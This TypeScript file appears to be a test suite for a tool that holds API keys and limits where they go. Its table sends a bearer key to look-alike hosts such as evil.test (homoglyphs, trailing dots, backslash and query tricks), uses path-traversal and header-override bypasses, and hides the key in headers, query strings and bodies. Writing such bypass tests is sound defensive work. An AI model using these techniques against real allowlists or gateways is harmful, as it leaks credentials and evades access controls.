import { ProxyAgent, setGlobalDispatcher } from "undici";
import type { AttackTable, Tool } from "../attack.ts";
import { names } from "../world.ts";

const toHost = (host: (tool: Tool) => string): AttackTable[number][1] => {
  return async (tool) => {
    await tool.tell(await tool.fetch(host(tool), { headers: { authorization: `Bearer ${tool.key}` } }));
  };
};
const atEvil = (host: string) => toHost(({ world }) => `https://${host}:${world.evil.port}/v1`);

const proxy = ({ world }: Tool) => new ProxyAgent({ uri: `http://127.0.0.1:${world.plain.port}`, requestTls: { ca: world.ca } });

/** What is not the rule's host, port, path or method, and looks like it. */
export const hostRules: AttackTable = [
  ["a dot at the end", atEvil(`${names.api}.`)],
  ["the name at the beginning of another", atEvil(`${names.api}.evil.test`)],
  ["the name at the end of another", atEvil("evilapi.keyhold.test")],
  ["a name under it", atEvil("sub.api.keyhold.test")],
  ["a letter of another alphabet", atEvil("\u0430pi.keyhold.test")],
  ["an ideographic dot", atEvil("api.keyhold.test\u3002evil.test")],
  ["another port", atEvil(names.api)],
  ["another port in capitals", atEvil("API.KEYHOLD.TEST")],
  ["a backslash before the name", toHost(({ world }) => `https://evil.test:${world.evil.port}\\@${names.api}/v1`)],
  ["a tab within the name", toHost(({ world }) => `https://ev\til.test:${world.evil.port}/${names.api}`)],
  ["the name in the query of another", toHost(({ world }) => `https://evil.test:${world.evil.port}?https://${names.api}/v1`)],
  ["without TLS", toHost(({ world }) => `http://${names.api}:${world.plain.port}/v1`)],
  [
    "a proxy of the caller's",
    async (tool) => {
      const dispatcher = proxy(tool);
      const headers = { authorization: `Bearer ${tool.key}` };
      try {
        await tool.tell(await tool.fetch(tool.api(), { headers, dispatcher }));
      } finally {
        await dispatcher.destroy();
      }
    },
  ],
  [
    "a proxy for the whole process",
    async (tool) => {
      const dispatcher = proxy(tool);
      setGlobalDispatcher(dispatcher);
      try {
        await tool.tell(await tool.ask());
      } finally {
        await dispatcher.destroy();
      }
    },
  ],
  ["another path", toHost((tool) => tool.api("/admin"))],
  ["a path that begins alike", toHost((tool) => tool.api("/v10"))],
  ["a path by way of the right one", toHost((tool) => tool.api("/v1/../admin"))],
  ["the same, encoded", toHost((tool) => tool.api("/v1/..%2fadmin")), { isOutside: ({ path }) => path.includes("..") }],
  [
    "the same, encoded twice",
    toHost((tool) => tool.api("/v1/%252e%252e/admin")),
    { isOutside: ({ path }) => /%252e/.test(path) },
  ],
  ["the same, with parameters", toHost((tool) => tool.api("/v1/..;/admin")), { isOutside: ({ path }) => path.includes("..;") }],
  [
    "another path, by a header",
    async (tool) => {
      await tool.ask("/v1", { headers: { "x-original-url": "/admin" } });
    },
    { isOutside: ({ headers }) => headers["x-original-url"] !== undefined },
  ],
  [
    "another method",
    async (tool) => {
      await tool.ask("/v1", { method: "DELETE" });
    },
    { isOutside: ({ method }) => method === "DELETE" },
  ],
  [
    "another method, by a header",
    async (tool) => {
      await tool.ask("/v1", { method: "POST", headers: { "x-http-method-override": "DELETE" } });
    },
    { isOutside: ({ headers }) => headers["x-http-method-override"] !== undefined },
  ],
  [
    "another header",
    async (tool) => {
      await tool.fetch(tool.api(), { headers: { "x-forwarded-user": tool.key } });
    },
    { isOutside: ({ headers }) => headers["x-forwarded-user"] !== undefined },
  ],
  [
    "another parameter",
    async (tool) => {
      await tool.fetch(tool.api(`/v1?comment=${encodeURIComponent(tool.key)}`));
    },
    { isOutside: ({ path }) => path.includes("comment") },
  ],
  [
    "the body",
    async (tool) => {
      await tool.fetch(tool.api(), { method: "POST", body: JSON.stringify({ comment: tool.key }) });
    },
    { isOutside: ({ body }) => body.length > 0 },
  ],
];
